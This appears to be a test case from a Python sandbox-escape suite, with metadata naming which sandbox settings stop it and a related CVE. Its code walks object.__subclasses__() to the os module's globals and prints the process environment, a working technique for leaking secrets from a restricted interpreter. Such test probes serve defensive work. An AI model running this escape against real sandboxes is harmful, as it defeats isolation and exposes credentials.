"""Find the class that wraps what popen gives.

family: classes
canary: secret
stops: full, container
root: no
related: CVE-2026-4963
"""

(wrapper,) = [each for each in object.__subclasses__() if each.__name__ == "_wrap_close"]
print(wrapper.__init__.__globals__["environ"])
